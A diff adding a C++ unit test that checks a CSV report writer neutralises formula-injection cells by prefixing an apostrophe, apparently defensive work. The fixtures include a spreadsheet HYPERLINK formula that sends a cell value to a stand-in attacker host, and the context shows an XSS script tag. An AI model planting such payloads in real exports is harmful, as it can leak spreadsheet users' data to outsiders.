@@ -113,6 +113,40 @@ TEST_F(Reports, CsvQuotesOnlyCommaQuoteAndCodesUpTo32) {
                                "6,\"line\r\nbreak\",\"\"\"\"\r\n");
 }
 
+// A cell that a spreadsheet would run as a formula or DDE call gets a leading apostrophe in the
+// report and the details file alike, before each file's own quoting; every other cell stays as it is.
+TEST_F(Reports, CellsASpreadsheetWouldRunAreNeutralisedBeforeQuoting) {
+    const struct {
+        std::string cell, report, details;
+    } cases[] = {
+        {"=HYPERLINK(\"http://attacker.test/?\"&A1;\"Klick\")",
+         "\"'=HYPERLINK(\"\"http://attacker.test/?\"\"&A1;\"\"Klick\"\")\"",
+         "\"'=HYPERLINK(\"\"http://attacker.test/?\"\"&A1;\"\"Klick\"\")\""},
+        {"+49 30 1234", "\"'+49 30 1234\"", "'+49 30 1234"},
+        {"-5", "'-5", "'-5"},
+        {"@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)"},
+        {"\tcmd", "\"'\tcmd\"", "'\tcmd"},
+        {"\r=1", "\"'\r=1\"", "\"'\r=1\""},
+        {"\n-1", "\"'\n-1\"", "\"'\n-1\""},
+        {"  =1+1", "\"'  =1+1\"", "'  =1+1"},
+        {"＝1+1", "'＝1+1", "'＝1+1"}, // full-width
+        {"a=b-c", "a=b-c", "a=b-c"},
+        {" x", "\" x\"", " x"},
+        {"'=1", "'=1", "'=1"},
+        {"", "", ""},
+    };
+    const std::string details = h.folder / "d.csv";
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.cell);
+        h.table.ResetWithHeaders({"Nr.", "a"});
+        h.table.AppendRecord({c.cell});
+        EXPECT_EQ(storage::CsvText(h.table), "Nr.,a\r\n,\r\n2," + c.report + "\r\n");
+        storage::WriteDetailsCsv(details, {{c.cell}});
+        const std::string text = ReadBytes(details);
+        EXPECT_EQ(text.substr(text.find("\r\n") + 2), c.details + "\r\n");
+    }
+}
+
 TEST_F(Reports, HtmlEscapesAngleBracketsButKeepsAmpersands) {
     h.table.ResetWithHeaders({"Nr.", "Link-URL"});
     h.table.AppendRecord({"<script>alert(1)</script> &amp; A&B"});
